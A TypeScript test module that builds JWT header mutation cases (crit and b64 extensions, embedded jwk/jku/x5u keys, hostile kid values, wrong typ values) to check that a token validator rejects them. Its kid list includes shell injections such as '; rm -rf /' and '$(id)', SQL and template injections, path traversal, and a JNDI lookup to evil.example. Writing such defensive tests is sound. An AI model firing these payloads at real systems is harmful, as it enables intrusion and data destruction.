/** Headers that request an extension, another key or another type, and hostile key ids. */
import {
  adding,
  type Case,
  headerCases,
  issuerUntrusted,
  malformed,
  notFound,
  signatureInvalid,
  typeMismatch,
  withClaims,
  withHeader,
  withHeaderText
} from "./case.ts"
import { canary, type Control, issuer, neighbour } from "./control.ts"
import { encode, signSegments } from "./signer.ts"

const critical = malformed("header", "critical")
const member = malformed("header", "member")

/** JSON without a dot, which can be a token's segment unencoded. */
const dotless = (claims: Control["claims"]): string => JSON.stringify(claims).replaceAll(".", String.raw`\u002e`)

const extensions: ReadonlyArray<Case> = [
  ...headerCases(
    "crit",
    [["exp"], ["b64"], ["unknown"], ["alg"], [], [1], [["exp"]], {}, "exp", "", 0, true, null],
    critical
  ),
  ...headerCases("b64", [false, true, null, "false", 0, []], critical),
  {
    name: "b64 false, listed in crit, with an unencoded payload (RFC 7797)",
    mutate: ({ claims, header, signer }) =>
      signSegments(signer, encode(JSON.stringify({ ...header, b64: false, crit: ["b64"] })), dotless(claims)),
    reason: critical
  },
  {
    name: "b64 true, listed in crit",
    mutate: (control) => withHeader(control, { b64: true, crit: ["b64"] }),
    reason: critical
  },
  {
    name: "crit with a member that is present (CVE-2026-35042)",
    mutate: (control) => withHeader(control, { crit: ["x-mfa"], "x-mfa": true }),
    reason: critical
  },
  {
    name: "crit written with escapes",
    mutate: (control) => withHeaderText(control, adding(control.header, String.raw`"\u0063rit":["exp"]`)),
    reason: critical
  }
]

/** Header members that contain a key or its location (RFC 7515, 4.1.2 to 4.1.8). */
const embedded: Readonly<Record<string, (control: Control) => Readonly<Record<string, unknown>>>> = {
  jwk: ({ stranger }) => ({ jwk: { ...stranger.jwk, kty: stranger.jwk.kty ?? "oct", k: encode(stranger.secret) } }),
  jku: () => ({ jku: `https://${canary}.example/jwks` }),
  "jku at the issuer": () => ({ jku: `${issuer}/jwks` }),
  "jku of a file": () => ({ jku: "file:///dev/null" }),
  x5u: () => ({ x5u: `https://${canary}.example/chain.pem` }),
  x5c: () => ({ x5c: [Buffer.from(`${canary} certificate`).toString("base64")] }),
  x5t: () => ({ x5t: encode(canary) }),
  "x5t#S256": () => ({ "x5t#S256": encode(canary) }),
  "all of them": ({ stranger }) => ({
    jwk: stranger.jwk,
    jku: `https://${canary}.example/jwks`,
    x5u: `https://${canary}.example/chain.pem`,
    x5c: [Buffer.from(canary).toString("base64")]
  })
}

const ownKeys: ReadonlyArray<Case> = Object.entries(embedded).flatMap(([name, members]): ReadonlyArray<Case> => [
  {
    name: `${name}, signed by the embedded key, with the trusted kid`,
    mutate: (control) => withHeader(control, members(control), control.stranger),
    reason: signatureInvalid
  },
  {
    name: `${name}, signed by the embedded key, without a kid`,
    mutate: (control) => withHeader(control, { ...members(control), kid: undefined }, control.stranger),
    reason: signatureInvalid
  },
  {
    name: `${name}, signed by the embedded key, with a new kid`,
    mutate: (control) => withHeader(control, { ...members(control), kid: `${canary}-own` }, control.stranger),
    reason: notFound("unknown")
  }
])

const hostileKids = [
  "",
  " ",
  "*",
  ".*",
  "%",
  "0",
  "null",
  "undefined",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "../../../../../../dev/null",
  "/dev/null",
  String.raw`..\..\windows\win.ini`,
  "%2e%2e%2f%2e%2e%2fdev%2fnull",
  "' OR '1'='1",
  "x' UNION SELECT 'AAAA';--",
  "; rm -rf /",
  "$(id)",
  "`id`",
  "| id",
  "${jndi:ldap://evil.example}",
  "{{7*7}}",
  "https://evil.example/jwks",
  "data:application/json,{}",
  "(a+)+$",
  "\u0000",
  "\n",
  "\uFEFF",
  "k".repeat(256),
  "k".repeat(257),
  "k".repeat(9000)
]

const similarKids: Readonly<Record<string, (kid: string) => string>> = {
  "in upper case": (kid) => kid.toUpperCase(),
  "with a space after it": (kid) => `${kid} `,
  "with a space before it": (kid) => ` ${kid}`,
  "with a NUL after it": (kid) => `${kid}\u0000`,
  "with a line break after it": (kid) => `${kid}\n`,
  "without its last character": (kid) => kid.slice(0, -1),
  "with a zero-width space": (kid) => `${kid}\u200B`,
  "with a hyphen of another kind": (kid) => kid.replace("-", "\u2010"),
  "encoded": encode,
  "after a path": (kid) => `./${kid}`,
  "twice": (kid) => `${kid},${kid}`
}

const names: ReadonlyArray<Case> = [
  ...headerCases("kid", hostileKids, notFound("unknown")),
  ...headerCases("kid", [0, 1, -1, true, false, null, [], {}, [`${canary}-RS256`], { kid: canary }], member),
  ...Object.entries(similarKids).map(([name, change]): Case => ({
    name: `the kid ${name}`,
    mutate: (control) => withHeader(control, { kid: change(control.signer.kid) }),
    reason: notFound("unknown")
  })),
  {
    name: "the kid of another issuer's key, signed by that key",
    mutate: (control) => withHeader(control, { kid: control.neighbour.kid }, control.neighbour),
    reason: notFound("unknown")
  },
  {
    name: "another issuer's key without a kid",
    mutate: (control) => withHeader(control, { kid: undefined }, control.neighbour),
    reason: signatureInvalid
  },
  {
    name: "the other issuer as iss, with this issuer's key and kid",
    mutate: (control) => withClaims(control, { iss: neighbour }),
    reason: notFound("unknown")
  },
  {
    name: "iss in the header, which is ignored, and the other issuer's key",
    mutate: (control) => withHeader(control, { iss: issuer, kid: control.neighbour.kid }, control.neighbour),
    reason: notFound("unknown")
  },
  {
    name: "an untrusted issuer, signed by its own key",
    mutate: (control) => withClaims(control, { iss: `https://${canary}.example` }, control.stranger),
    reason: issuerUntrusted
  }
]

/** ID tokens, DPoP proofs, logout tokens and others have separate types (RFC 8725, 3.11 and 3.12). */
const types = [
  undefined,
  "",
  " ",
  "JWT",
  "jwt",
  "JOSE",
  "JOSE+JSON",
  "dpop+jwt",
  "logout+jwt",
  "secevent+jwt",
  "token-introspection+jwt",
  "oauth-authz-req+jwt",
  "vc+jwt",
  "at+jwt ",
  " at+jwt",
  "at+jwt\u0000",
  "at+jwt;charset=utf-8",
  "at+jwt,JWT",
  "at jwt",
  "at+jwts",
  "xat+jwt",
  "text/at+jwt",
  "application/at+jwt/",
  "application/application/at+jwt",
  "application/",
  "\uFF41\uFF54+jwt",
  "__proto__"
]

const typed: ReadonlyArray<Case> = [
  ...headerCases("typ", types, typeMismatch),
  ...headerCases("typ", [null, 1, true, ["at+jwt"], { at: "jwt" }], member),
  {
    name: "an ID token",
    mutate: ({ claims, header, ...control }) =>
      withClaims({ ...control, claims, header: { ...header, typ: "JWT" } }, { client_id: undefined, nonce: canary }),
    reason: typeMismatch
  }
]

export const headerMutations: ReadonlyArray<Case> = [...extensions, ...ownKeys, ...names, ...typed]
